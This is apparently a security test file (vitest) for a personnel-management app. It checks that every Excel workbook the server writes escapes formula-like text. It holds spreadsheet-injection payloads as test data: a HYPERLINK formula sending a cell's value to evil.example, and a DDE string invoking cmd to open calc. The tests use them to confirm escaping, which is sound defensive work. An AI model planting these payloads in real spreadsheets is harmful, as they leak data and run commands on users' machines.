import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, injectAs, loginAs, multipartFile, type Session, type TestApp } from '../helpers.ts';

/**
 * SECURITY 19 through every workbook the server writes: text from data that a spreadsheet would run
 * (= + - @) is written escaped, never as a formula, and an exported workbook imports back unchanged.
 */
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const LINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
const PLUS = '+1-2';
const AT = '@SUM(1+1)*cmd|" /C calc"!A0';
const MINUS = '-2+3';

let t: TestApp;
let orgdept: Session;
let cadre: { id: string; name: string; org_id: string };

/** Every cell of every sheet: formulas, and texts that a spreadsheet would run, are problems. */
async function readBack(bytes: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer, { ignoreNodes: ['dataValidations'] });
  const texts: string[] = [];
  const problems: string[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) problems.push(`${ws.name}!${cell.address} formula`);
        if (typeof cell.value === 'string') {
          texts.push(cell.value);
          if (/^[=+\-@\t\r]/.test(cell.value)) problems.push(`${ws.name}!${cell.address} ${cell.value}`);
        }
      }),
    );
  }
  return { texts, problems };
}

beforeAll(async () => {
  t = await createTestApp();
  orgdept = await loginAs(t, 'orgdept');
  // a street cadre with appointments: their unit, record and one appointment get hostile texts
  const { rows } = await t.db.admin.query<{ id: string; name: string; org_id: string }>(
    `SELECT c.id, c.name, c.org_id FROM cadres c
      WHERE c.deactivated_at IS NULL AND c.id_number_enc IS NOT NULL
        AND EXISTS (SELECT 1 FROM cadre_appointments a WHERE a.cadre_id = c.id)
        AND (SELECT count(*) FROM cadres d WHERE d.name = c.name) = 1
      ORDER BY c.org_path, c.id LIMIT 1`,
  );
  cadre = rows[0] as typeof cadre;
  await t.db.admin.query(`UPDATE orgs SET name = $2 WHERE id = $1`, [cadre.org_id, LINK]);
  await t.db.admin.query(
    `UPDATE cadres SET post_title = $2, native_place = $3, birth_place = $4 WHERE id = $1`,
    [cadre.id, AT, PLUS, MINUS],
  );
  await t.db.admin.query(
    `UPDATE cadre_appointments SET unit_name = $2
      WHERE id = (SELECT id FROM cadre_appointments WHERE cadre_id = $1 ORDER BY start_date LIMIT 1)`,
    [cadre.id, LINK],
  );
});
afterAll(async () => t.close());

describe('[cadre] workbooks escape formula-like text (SECURITY 19)', () => {
  it('the import template: unit names in the lists are escaped', async () => {
    const res = await injectAs(t, orgdept, { method: 'GET', url: '/api/cadres/import/template.xlsx' });
    expect(res.statusCode).toBe(200);
    const { texts, problems } = await readBack(res.rawPayload);
    expect(problems).toEqual([]);
    expect(texts).toContain(`'${LINK}`);
  });

  it('the export in template form: record and appointment texts escaped, and it imports back unchanged', async () => {
    const read = async () => {
      const res = await injectAs(t, orgdept, { method: 'GET', url: `/api/cadres/${cadre.id}?reveal=true` });
      expect(res.statusCode, res.body).toBe(200);
      return res.json<Record<string, unknown>>();
    };
    const before = await read();
    expect(before).toMatchObject({ postTitle: AT, nativePlace: PLUS, birthPlace: MINUS });
    const exported = await injectAs(t, orgdept, {
      method: 'GET',
      url: `/api/cadres/export/template.xlsx?orgId=${cadre.org_id}&q=${encodeURIComponent(cadre.name)}`,
    });
    expect(exported.statusCode, exported.body).toBe(200);
    const { texts, problems } = await readBack(exported.rawPayload);
    expect(problems).toEqual([]);
    for (const v of [AT, PLUS, MINUS, LINK]) expect(texts).toContain(`'${v}`);

    const imported = await injectAs(t, orgdept, {
      method: 'POST',
      url: '/api/cadres/import/xlsx?mode=update',
      ...multipartFile('干部.xlsx', exported.rawPayload, XLSX),
    });
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json<{ imported: { id: string }[] }>().imported.map((i) => i.id)).toEqual([cadre.id]);
    // the template's fields come back as they were (the template has no family column: not compared)
    const after = await read();
    const templateFields = ({ family: _family, ...rest }: Record<string, unknown>) => rest;
    expect(templateFields(after)).toEqual(templateFields(before));
  });

  it('the roster export', async () => {
    const res = await injectAs(t, orgdept, {
      method: 'GET',
      url: `/api/cadres/export.xlsx?orgId=${cadre.org_id}&q=${encodeURIComponent(cadre.name)}`,
    });
    expect(res.statusCode).toBe(200);
    const { texts, problems } = await readBack(res.rawPayload);
    expect(problems).toEqual([]);
    expect(texts).toEqual(expect.arrayContaining([`'${LINK}`, `'${AT}`]));
  });

  it('the import error report: uploaded texts escaped, formulas replaced by their results', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('人员信息');
    ws.addRow(['姓名', '性别', '出生年月', '籍贯', '现任职务', '所在单位']);
    ws.addRow([LINK, '男', '1988.03', PLUS, AT, '不存在的单位']);
    ws.getCell('G2').value = { formula: 'HYPERLINK("http://evil.example/","x")', result: 'x' };
    ws.getCell('H2').value = { text: MINUS, hyperlink: 'http://evil.example/' };
    const bytes = Buffer.from(await wb.xlsx.writeBuffer());
    const report = await injectAs(t, orgdept, {
      method: 'POST',
      url: '/api/cadres/import/xlsx/report?mode=create',
      ...multipartFile('干部.xlsx', bytes, XLSX),
    });
    expect(report.statusCode, report.body).toBe(200);
    const { texts, problems } = await readBack(report.rawPayload);
    expect(problems).toEqual([]);
    const back = new ExcelJS.Workbook();
    await back.xlsx.load(report.rawPayload as unknown as ArrayBuffer);
    const sheet = back.getWorksheet('人员信息')!;
    expect((sheet.getRow(2).values as unknown[]).slice(1, 8)).toEqual([
      `'${LINK}`,
      '男',
      '1988.03',
      `'${PLUS}`,
      `'${AT}`,
      '不存在的单位',
      'x',
    ]);
    expect(sheet.getCell('H2').value).toBe(`'${MINUS}`);
    expect(texts.some((x) => x.startsWith('所在单位：'))).toBe(true);
  });
});

describe('[audit] [assessment] workbooks escape formula-like text (SECURITY 19)', () => {
  it('the audit export', async () => {
    // a refused request names its object as sent: the audit row keeps the text
    const refused = await injectAs(t, orgdept, {
      method: 'POST',
      url: `/api/cadre-corrections/${encodeURIComponent(LINK)}/decision`,
      payload: { status: 'accepted' },
    });
    expect(refused.statusCode).toBe(400);
    const auditor = await loginAs(t, 'auditor');
    const res = await injectAs(t, auditor, { method: 'GET', url: '/api/audit/export.xlsx' });
    expect(res.statusCode).toBe(200);
    const { texts, problems } = await readBack(res.rawPayload);
    expect(problems).toEqual([]);
    expect(texts).toContain(`'${LINK}`);
  });

  it('the results workbook: round and group names from the (editable) pack escaped', async () => {
    const { rows } = await t.db.admin.query<{ id: string }>(
      `SELECT id FROM assessment_rounds ORDER BY created_at LIMIT 1`,
    );
    const roundId = (rows[0] as { id: string }).id;
    await t.db.admin.query(
      `UPDATE assessment_rounds SET name = $2,
              rules = jsonb_set(rules, '{scheme,raterGroups,0,name}', to_jsonb($3::text)) WHERE id = $1`,
      [roundId, LINK, PLUS],
    );
    const res = await injectAs(t, orgdept, {
      method: 'GET',
      url: `/api/assessment/rounds/${roundId}/results.xlsx`,
    });
    expect(res.statusCode, res.body).toBe(200);
    const { texts, problems } = await readBack(res.rawPayload);
    expect(problems).toEqual([]);
    expect(texts.some((x) => x.startsWith(`'${LINK}（`))).toBe(true);
    expect(texts.some((x) => x.startsWith(`'${PLUS}（`) && x.endsWith('票数'))).toBe(true);
  });
});
